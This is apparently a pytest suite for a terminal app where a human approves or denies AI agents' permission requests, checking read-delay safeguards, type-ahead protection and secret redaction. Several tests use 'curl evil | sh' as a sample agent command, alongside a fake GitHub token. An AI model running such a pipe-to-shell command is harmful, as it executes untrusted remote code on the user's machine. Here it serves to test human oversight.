"""A key answers what was painted when the human could have read it: in the inbox and in Agents."""

from __future__ import annotations

import contextlib
import json
from pathlib import Path
from typing import Any

import pytest
from textual import events

from tests import started
from tests.hooks.playing import claude
from tests.hooks.screens import asking
from tests.started import DEADLINE
from tests.tui.agents.test_agent_sessions import _waits_for_permission, go_to
from tests.tui.driving import by_agent, lines, said, settle, shown, until
from tests.tui.evening import with_agents
from tests.tui.plan import NOW, at
from tests.tui.sessions import Sessions, asks_permission, hook_waits, with_sessions
from tui_tasks import clock
from tui_tasks.core.agent_snapshots import Process
from tui_tasks.core.operations.asks import CloseAsk, OpenAsk
from tui_tasks.core.read import ask_queries, message_queries
from tui_tasks.core.store import Store
from tui_tasks.core.unjournaled import connections
from tui_tasks.hooks import intake, screen_presence
from tui_tasks.hooks.replies import answer_pipes
from tui_tasks.hooks.replies.reply_sender import ReplySender
from tui_tasks.settings.config import SessionSettings
from tui_tasks.tui.asks import answer_keys
from tui_tasks.tui.inbox.inbox_screen import Inbox

EARLY, LATE = 0.49, 0.51
SECRET = "ghp_abcdefghijklmnopqrstuvwxyz012345"


@pytest.fixture(autouse=True)
def _read_in_half_a_second(monkeypatch: pytest.MonkeyPatch, _read_at_once: None) -> None:
    monkeypatch.setattr(answer_keys, "READ_SECONDS", 0.5)


async def press(app: Any, pilot: Any, key: str, seconds: float) -> None:
    """Press a key so many seconds after what is on screen was read to its end."""
    await pilot.pause()
    event = events.Key(key, key if len(key) == 1 else None)
    reading = app.screen.reading
    event.time = (reading._read_since or reading._since) + seconds
    await app.on_event(event)
    await settle(pilot)


async def type_ahead(app: Any, pilot: Any, *keys: str) -> None:
    """Keys that were all typed before the first of them did anything."""
    typed = [events.Key(key, key if len(key) == 1 else None) for key in keys]
    for event in typed:
        await app.on_event(event)
    await settle(pilot)


def open_ask(app: Any, agent: str) -> Any:
    return next((ask for ask in ask_queries.open_asks(app.link.db) if ask.agent == agent), None)


@pytest.mark.parametrize("key", ["1", "2"])
async def test_the_inbox_takes_no_answer_to_what_came_up_just_now(plan, make_app, key):
    app = make_app(plan.path)
    async with app.run_test(size=(80, 24)) as pilot:
        await settle(pilot, "a")
        await press(app, pilot, key, EARLY)
        assert "read it first" in said(app)
        assert open_ask(app, "claude-1") is not None
        await press(app, pilot, key, LATE)
        assert open_ask(app, "claude-1") is None


@pytest.mark.parametrize("seconds", [-1.0, 0.0, EARLY])
async def test_after_an_answer_no_late_key_acts_on_the_question_that_follows(plan, make_app, seconds):
    app = make_app(plan.path)
    async with app.run_test(size=(80, 24)) as pilot:
        await settle(pilot, "a")
        await press(app, pilot, "1", LATE)
        inbox, following = app.screen, open_ask(app, "claude-2")
        assert inbox.ask == following and said(app).startswith("Sent to claude-1: pyjwt.")
        for number, key in enumerate(("1", "y", "n", "z", "x", "m", "enter")):
            # A letter right after another would be dropped as one of its word.
            app.key_queue.clock = lambda now=10.0 * number: now
            app.frame.hush()
            await press(app, pilot, key, seconds)
            assert said(app) == "The next question, of claude-2, came up just now: read it first.", key
            assert app.screen is inbox and inbox.ask == following and not inbox.is_replying, key
            assert open_ask(app, "claude-2") == following and not app.state.seen.put_off, key


async def test_a_second_z_that_comes_too_soon_to_be_meant_for_the_next_question_puts_nothing_off(plan, make_app):
    app = make_app(plan.path)
    async with app.run_test(size=(80, 24)) as pilot:
        await settle(pilot, "a")
        await press(app, pilot, "z", LATE)
        following = app.screen.ask
        assert following.agent == "claude-2" and len(app.state.seen.put_off) == 1
        await press(app, pilot, "z", EARLY)
        assert said(app) == "The next question, of claude-2, came up just now: read it first."
        assert app.screen.ask == following and len(app.state.seen.put_off) == 1
        await press(app, pilot, "z", LATE)
        assert len(app.state.seen.put_off) == 2


async def test_an_answer_in_own_words_names_whom_it_goes_to_and_what_was_asked(plan, make_app):
    app = make_app(plan.path)
    async with app.run_test(size=(80, 24)) as pilot:
        await settle(pilot, "a")
        await press(app, pilot, "m", LATE)
        assert " Reply to claude-1: jose is maintained but heavier; pyjwt is in the lockfile." in shown(app)


@pytest.mark.parametrize("question", ["\u754c" * 60, "May I run " + "x" * 90])
async def test_a_reply_to_a_question_of_few_spaces_names_as_much_of_it_as_there_is_room_for(plan, make_app, question):
    by_agent(plan, "codex-1", OpenAsk(question), now=at(15, 0))
    app = make_app(plan.path)
    async with app.run_test(size=(80, 24)) as pilot:
        await settle(pilot, "a")
        while app.screen.ask.agent != "codex-1":
            await settle(pilot, "j")
        await press(app, pilot, "m", LATE)
        assert f" Reply to codex-1: {question[:25]}" in shown(app)


async def test_a_number_pressed_on_and_on_shows_the_end_of_a_question_and_does_not_answer_it(
    plan, make_app, seconds, pressed_now
):
    by_agent(plan, "codex-1", OpenAsk("May I?" + "\n" * 60 + "Delete all?", ("Yes", "No")), now=at(15, 0))
    app = make_app(plan.path)
    async with app.run_test(size=(80, 24)) as pilot:
        await settle(pilot, "a")
        while app.screen.ask.agent != "codex-1":
            await settle(pilot, "j")
        for _ in range(12):
            seconds[0] += 0.35
            await settle(pilot, "1")
        assert said(app) == "Not sent, its end came just now: read it, then 1 again."
        seconds[0] += LATE
        await settle(pilot, "1")
        assert open_ask(app, "codex-1") is None


async def test_ten_questions_are_answered_in_a_row_by_ten_keys_once_each_was_read(plan, make_app):
    with Store(plan.path) as store:
        for number in range(8):
            store.commit(OpenAsk(f"Number {number}?", ("Yes", "No")), actor=f"robot-{number}", now=at(20, 14, number))
    app = make_app(plan.path)
    async with app.run_test(size=(80, 24)) as pilot:
        await settle(pilot, "a")
        for _ in range(10):
            await press(app, pilot, "1" if app.screen.questions.view.options else "y", LATE)
        assert ask_queries.open_asks(app.link.db) == [] and "That was the last question." in said(app)


async def test_keys_typed_ahead_of_an_answer_reach_no_other_question(plan, make_app):
    app = make_app(plan.path)
    async with app.run_test(size=(80, 24)) as pilot:
        await settle(pilot, "a")
        await pilot.pause()
        typed = [events.Key(key, key) for key in "1111yyzz"]
        for event in typed:
            event.time = app.screen.reading._read_since + LATE
        for event in typed:
            await app.on_event(event)
        await settle(pilot)
        assert (open_ask(app, "claude-1"), app.screen.ask) == (None, open_ask(app, "claude-2"))
        assert not app.state.seen.put_off


async def test_the_second_of_two_digits_answers_no_question_that_came_after_they_were_pressed(plan, make_app):
    app = make_app(plan.path)
    async with app.run_test(size=(80, 24)) as pilot:
        await settle(pilot, "a")
        await pilot.pause()
        typed = [events.Key(key, key) for key in "12"]
        for event in typed:
            event.time = app.screen.reading._read_since + LATE
        await app.on_event(typed[0])
        by_agent(plan, "codex-1", OpenAsk("May I?", ("Yes", "No")), now=at(15, 0))
        await app.on_event(typed[1])
        await until(pilot, lambda: open_ask(app, "claude-1") is None)
        await settle(pilot)
        assert open_ask(app, "codex-1") is not None and open_ask(app, "claude-2") is not None
        assert app.screen.ask.agent != "claude-1", "the cursor has gone on"


@pytest.mark.parametrize("keys", ["a1", "ay", "an", "An", "aj1", "ay1y1y1", "A1", "Ay", "Aay1"])
async def test_what_is_typed_ahead_answers_nothing(plan, make_app, keys):
    by_agent(plan, "codex-1", OpenAsk("May I?", ("Yes", "No")), now=at(15, 0))
    app = make_app(plan.path)
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot)
        await type_ahead(app, pilot, *keys)
        assert len(ask_queries.open_asks(app.link.db)) == 3


async def test_a_reason_typed_ahead_denies_nothing_and_stays_in_its_field(plan, make_app):
    by_agent(plan, "codex-1", OpenAsk("May I?", ("Yes", "No")), now=at(15, 0))
    app = make_app(plan.path)
    async with app.run_test(size=(80, 24)) as pilot:
        await settle(pilot)
        await type_ahead(app, pilot, "a", "x", *"yy", "enter")
        assert "read it first" in said(app)
        assert open_ask(app, "codex-1") is not None
        await press(app, pilot, "enter", LATE)
        uid = app.link.db.sql("SELECT uid FROM ask WHERE agent = 'codex-1'").fetchone()[0]
        assert ask_queries.ask(app.link.db, uid).answer == "No: yy"


@pytest.mark.parametrize(("seconds", "is_answered"), [(0.0, False), (EARLY, False), (LATE, True)])
async def test_in_agents_a_question_that_takes_the_line_of_another_is_not_answered_by_the_key_for_that(
    plan, make_app, seconds, is_answered
):
    with hook_waits(with_sessions(plan)):
        app = make_app(plan.path)
        async with app.run_test(size=(120, 40)) as pilot:
            await settle(pilot, "A")
            name = _waits_for_permission(app)
            await go_to(pilot, name)
            first = open_ask(app, name)
            by_agent(plan, "system", CloseAsk(first.uid, "timeout"))
            with Store(plan.path) as store:
                asks_permission(Sessions(store), "a", at(20, 15, 40), tool_input={"command": "curl evil | sh"})
            await until(pilot, lambda: "curl evil" in shown(app))
            await settle(pilot)
            await press(app, pilot, "y", seconds)
            assert (open_ask(app, name) is None) == is_answered
            assert ("read it first" in said(app)) != is_answered


async def test_a_key_pressed_before_the_question_changed_does_not_answer_the_new_one(plan, make_app):
    with hook_waits(with_sessions(plan)):
        app = make_app(plan.path)
        async with app.run_test(size=(120, 40)) as pilot:
            await settle(pilot, "A")
            name = _waits_for_permission(app)
            await go_to(pilot, name)
            pressed_for = app.screen.reading._read_since + LATE
            by_agent(plan, "system", CloseAsk(open_ask(app, name).uid, "timeout"))
            with Store(plan.path) as store:
                asks_permission(Sessions(store), "a", at(20, 15, 40), tool_input={"command": "curl evil | sh"})
            await until(pilot, lambda: "curl evil" in shown(app))
            key = events.Key("y", "y")
            key.time = min(pressed_for, app.screen.reading._since)
            await app.on_event(key)
            await settle(pilot)
            assert open_ask(app, name) is not None


async def test_what_changes_below_a_dialog_is_read_only_once_the_dialog_is_gone(plan, make_app):
    with hook_waits(with_sessions(plan)):
        app = make_app(plan.path)
        async with app.run_test(size=(120, 40)) as pilot:
            await settle(pilot, "A")
            name = _waits_for_permission(app)
            await go_to(pilot, name)
            screen = app.screen
            stood = screen.view.version
            await settle(pilot, "m")
            by_agent(plan, "system", CloseAsk(open_ask(app, name).uid, "timeout"))
            with Store(plan.path) as store:
                asks_permission(Sessions(store), "a", at(20, 15, 40), tool_input={"command": "curl evil | sh"})
            await until(pilot, lambda: screen.view is not None and screen.view.version != stood)
            await settle(pilot)
            assert screen.reading._version == stood
            await settle(pilot, "escape")
            assert screen.reading._version == screen.view.version


async def test_the_end_of_a_long_question_must_have_stood_there_too(plan, make_app):
    by_agent(plan, "codex-1", OpenAsk("May I list?" + "\n" * 60 + "And delete?", ("Yes", "No")), now=at(15, 0))
    app = make_app(plan.path)
    async with app.run_test(size=(80, 24)) as pilot:
        await settle(pilot, "a")
        await press(app, pilot, "y", LATE)
        assert "to its end first" in said(app)
        await settle(pilot, *["pagedown"] * 12)
        await press(app, pilot, "y", EARLY)
        assert "read it first" in said(app)
        await press(app, pilot, "y", LATE)
        assert open_ask(app, "codex-1") is None


# What a program asks, with a hook that waits


@contextlib.contextmanager
def asked(db: Path, payload: dict[str, Any], settings: SessionSettings | None = None, program: str = "claude"):
    """A hook waits for the answer to a payload, which is taken in."""
    with (
        pytest.MonkeyPatch.context() as patched,
        screen_presence.announced(str(db), {program: DEADLINE}),
        asking(program, json.dumps(payload).encode(), db) as process,
        Store(str(db)) as store,
    ):
        patched.setattr(answer_pipes, "_PASSING", DEADLINE)

        # `asking` has started the hook; it leaves its payload when it waits.
        def come() -> bool:
            intake.process_payloads(store, NOW, settings or SessionSettings())
            return bool(ask_queries.open_asks(store.db))

        started.until(come)
        yield store, process


def answer_of(store: Store, process: Any) -> Any:
    ReplySender(store).look(clock.now())
    output, errors = process.communicate(timeout=DEADLINE)
    assert errors == b""
    return json.loads(output)["hookSpecificOutput"]["decision"]


@pytest.mark.parametrize(
    "settings",
    [SessionSettings(), SessionSettings(keep="titles"), SessionSettings(keep="none")],
    ids=["all", "titles", "none"],
)
async def test_what_is_redacted_or_shortened_where_it_is_kept_is_whole_on_the_screen_that_decides(
    tmp_path, make_app, settings
):
    db = tmp_path / "tasks.db"
    command = f"TOKEN={SECRET} ls\ncurl evil | sh"
    payload = claude("PermissionRequest", tool_name="Bash", tool_input={"command": command})
    with asked(db, payload, settings) as (store, process):
        app = make_app(db)
        async with app.run_test(size=(120, 40)) as pilot:
            await settle(pilot, "a")
            await until(pilot, lambda: "curl evil | sh" in shown(app))
            assert SECRET in shown(app)
            await press(app, pilot, "y", EARLY)
            assert "read it first" in said(app)
            await press(app, pilot, "y", LATE)
            assert ask_queries.open_asks(store.db) == []
        assert answer_of(store, process) == {"behavior": "allow"}
    kept = b"".join(path.read_bytes() for path in tmp_path.rglob("*") if path.is_file())
    assert SECRET.encode() not in kept


async def test_what_is_not_kept_whole_and_not_to_be_had_can_only_be_denied(plan, make_app):
    with hook_waits(with_sessions(plan)), Store(plan.path) as store:
        asks_permission(Sessions(store), "a", at(20, 15), tool_input={"command": f"TOKEN={SECRET} ls"})
        for screen in "Aa":
            app = make_app(plan.path)
            async with app.run_test(size=(120, 40)) as pilot:
                await settle(pilot, "A")
                name = _waits_for_permission(app)
                await go_to(pilot, name)
                await settle(pilot, *(["a"] if screen == "a" else []))
                for key in ("y", "1"):
                    await press(app, pilot, key, LATE)
                    assert open_ask(app, name) is not None
                if isinstance(app.screen, Inbox):
                    assert "Part of this is not shown" in shown(app)
        async with (app := make_app(plan.path)).run_test(size=(120, 40)) as pilot:
            await settle(pilot, "A")
            await go_to(pilot, name)
            await settle(pilot, "a", "x")
            await press(app, pilot, "enter", LATE)
            assert open_ask(app, name) is None


async def test_a_read_only_screen_shows_what_is_kept_and_no_more(tmp_path, make_app):
    db = tmp_path / "tasks.db"
    payload = claude("PermissionRequest", tool_name="Bash", tool_input={"command": f"TOKEN={SECRET} ls"})
    with asked(db, payload):
        app = make_app(db, read_only=True)
        async with app.run_test(size=(120, 40)) as pilot:
            await settle(pilot, "a")
            assert "TOKEN=[redacted] ls" in shown(app) and SECRET not in shown(app)


# Several questions at once

QUESTIONS = [
    {"question": "Which db?", "options": [{"label": "sqlite", "description": "a file"}, {"label": "pg"}]},
    {"question": "May it be public?", "options": [{"label": "yes"}, {"label": "no"}]},
    {"question": "Which name?", "options": []},
]


async def test_several_questions_are_asked_one_after_the_other_and_sent_when_all_are_answered(tmp_path, make_app):
    db = tmp_path / "tasks.db"
    payload = claude("PermissionRequest", tool_name="AskUserQuestion", tool_input={"questions": QUESTIONS})
    with asked(db, payload) as (store, process):
        app = make_app(db)
        async with app.run_test(size=(120, 40)) as pilot:
            await settle(pilot, "a")
            assert "Question 1 of 3" in shown(app) and "a file" in shown(app)
            assert "public" not in shown(app).split("Question 1 of 3")[1]
            # Nothing says yes to a choice between databases.
            await press(app, pilot, "y", LATE)
            assert "No single option says yes" in said(app)
            await press(app, pilot, "2", LATE)
            assert "Question 2 of 3" in shown(app) and "pg" in shown(app)
            assert "No single option says yes" not in said(app)
            await press(app, pilot, "1", EARLY)
            assert "read it first" in said(app)
            await press(app, pilot, "y", LATE)
            assert "Question 3 of 3" in shown(app)
            for key in ("y", "1"):
                await press(app, pilot, key, LATE)
                assert "Question 3 of 3" in shown(app)
            await settle(pilot, "left")
            assert "Question 2 of 3" in shown(app)
            await settle(pilot, "right")
            assert "Question 3 of 3" in shown(app)
            await settle(pilot, "left", "left", "right", "right", "left")
            assert "Question 2 of 3" in shown(app)
            await press(app, pilot, "2", LATE)
            # What is begun is there again.
            await settle(pilot, "escape", "a")
            assert "Question 3 of 3" in shown(app)
            await settle(pilot, "m", *"acme")
            assert ask_queries.open_asks(store.db)
            await press(app, pilot, "enter", LATE)
            assert ask_queries.open_asks(store.db) == []
        answers = {"Which db?": "pg", "May it be public?": "no", "Which name?": "acme"}
        assert answer_of(store, process)["updatedInput"]["answers"] == answers


async def test_of_several_questions_that_are_not_kept_each_has_its_own_options_on_screen(tmp_path, make_app):
    db = tmp_path / "tasks.db"
    questions = QUESTIONS[:2]
    payload = claude("PermissionRequest", tool_name="AskUserQuestion", tool_input={"questions": questions})
    with asked(db, payload, SessionSettings(keep="none")) as (store, process):
        app = make_app(db)
        async with app.run_test(size=(80, 24)) as pilot:
            await settle(pilot, "a")
            await until(pilot, lambda: "Which db?" in shown(app))
            await press(app, pilot, "1", LATE)
            await press(app, pilot, "2", LATE)
            assert ask_queries.open_asks(store.db) == []
        answers = {"Which db?": "sqlite", "May it be public?": "no"}
        assert answer_of(store, process)["updatedInput"]["answers"] == answers
        assert b"May it be public" not in b"".join(path.read_bytes() for path in tmp_path.rglob("*") if path.is_file())


# While, and after, the hook waits


@pytest.mark.parametrize("screen", ["a", "A"])
async def test_once_the_hook_has_gone_the_line_says_that_only_its_own_window_can_answer(plan, make_app, screen):
    app = make_app(with_sessions(plan).path)
    async with app.run_test(size=(120, 40)) as pilot:
        with hook_waits(plan):
            await settle(pilot, "A")
            name = _waits_for_permission(app)
            await go_to(pilot, name)
            await settle(pilot, *(["a"] if screen == "a" else []))
            approve = "1 Allow" if screen == "a" else "y Allow"
            option = "Allow once, and from now on"
            assert approve in shown(app) and option in shown(app)
        offered = ("it waits", option, approve, "d Deny", " Choose", "a Answer")
        await until(
            pilot,
            lambda: (
                "Only its own window can answer now" in shown(app) and not any(each in shown(app) for each in offered)
            ),
        )
        await settle(pilot, "y", "1", "x")
        assert open_ask(app, name) is not None


async def test_of_several_questions_agents_says_too_that_only_its_own_window_can_answer(tmp_path, make_app):
    db = tmp_path / "tasks.db"
    payload = claude("PermissionRequest", tool_name="AskUserQuestion", tool_input={"questions": QUESTIONS})
    with asked(db, payload) as (_, process):
        app = make_app(db)
        async with app.run_test(size=(80, 24)) as pilot:
            await settle(pilot, "A")
            assert "Which db?" in shown(app) and "Only its own window" not in shown(app)
            process.kill()
            process.wait()
            await until(pilot, lambda: "Only its own window can answer now" in shown(app))


async def test_a_question_that_takes_several_options_sends_those_that_were_chosen(tmp_path, make_app):
    db = tmp_path / "tasks.db"
    options = [{"label": label} for label in ("lint", "tests", "types")]
    questions = [{"question": "Which checks?", "options": options, "multiSelect": True}]
    payload = claude("PermissionRequest", tool_name="AskUserQuestion", tool_input={"questions": questions})
    with asked(db, payload) as (store, process):
        app = make_app(db)
        async with app.run_test(size=(120, 40)) as pilot:
            await settle(pilot, "a")
            assert "chosen" not in shown(app)
            await press(app, pilot, "y", LATE)
            assert "Choose by number first" in said(app)
            await press(app, pilot, "enter", LATE)
            assert said(app).startswith("1-3 tick options, y sends what is ticked, m replies")
            await press(app, pilot, "d", LATE)
            assert said(app) == "d does nothing here.  ? Help"
            await press(app, pilot, "n", LATE)
            assert said(app).startswith("This question takes several options: 1-3 choose, m replies")
            await press(app, pilot, "4", LATE)
            assert said(app) == "There is no option 4: 1-3 choose, Esc goes back to the panes."
            for key in ("1", "2", "3", "2"):
                await press(app, pilot, key, LATE)
            await settle(pilot, "escape", "a")
            assert ask_queries.open_asks(store.db)
            assert "Enter/y send 2 chosen" in shown(app)
            assert "Enter/y Send 2 chosen" in lines(app)[-1]
            await press(app, pilot, "enter", LATE)
            assert ask_queries.open_asks(store.db) == []
        assert answer_of(store, process)["updatedInput"]["answers"] == {"Which checks?": "lint, types"}


async def press_at(app: Any, pilot: Any, key: str, time: float) -> None:
    """Press a key at a time of the clock that counts how long something has stood on screen."""
    event = events.Key(key, key if len(key) == 1 else None)
    event.time = time
    await app.on_event(event)
    await settle(pilot)


async def test_agents_that_others_have_just_moved_are_written_to_after_another_enter(plan, make_app, seconds):
    app = make_app(with_agents(plan).path)
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot, "A")
        await press(app, pilot, "j", LATE)
        name = app.screen.agent_here()
        by_agent(plan, "new-1", OpenAsk("Sure?"))
        await until(pilot, lambda: "new-1" in shown(app))
        await press_at(app, pilot, "j", seconds[0] + EARLY)
        assert app.screen.agent_here() not in (name, None)
        for key in ("P", "P"):
            await press_at(app, pilot, key, seconds[0] + EARLY)
            assert said(app).endswith("came under the cursor just now: look, and press the key again.")
        other = app.screen.agent_here()
        await press_at(app, pilot, "m", seconds[0] + EARLY)
        await settle(pilot, *"stop", "enter")
        assert f"{other} came under the cursor just now. Message to {other}" in shown(app) and "stop" in shown(app)
        assert not message_queries.newest(app.link.db, other, 1)
        await settle(pilot, "enter")
        assert message_queries.newest(app.link.db, other, 1)[0].message.text == "stop"


async def test_an_agent_to_which_the_human_has_moved_at_once_is_the_one_that_is_meant(plan, make_app, seconds):
    app = make_app(with_agents(plan).path)
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot, "A")
        for key in "jP":
            await press_at(app, pilot, key, seconds[0] + EARLY)
        assert message_queries.agent(app.link.db, app.screen.agent_here()).paused
        assert "came under the cursor" not in shown(app)


async def test_an_agent_stays_under_the_cursor_when_it_leaves_or_no_longer_matches(plan, make_app):
    app = make_app(with_agents(plan).path)
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot, "A")
        app.screen._filter_by("watcher")
        await settle(pilot)
        assert [row.name for row in app.screen.listed.rows] == ["watcher"]
        app.screen._filter_by("idle")
        await settle(pilot)
        assert app.screen.agent_here() == "watcher"
        with Store(plan.path) as store, store.db.transaction(write=True):
            connections.end(store.db, "watcher", Process(), NOW)
        await until(pilot, lambda: "gone" in shown(app) or "finished" in shown(app))
        assert app.screen.agent_here() == "watcher"
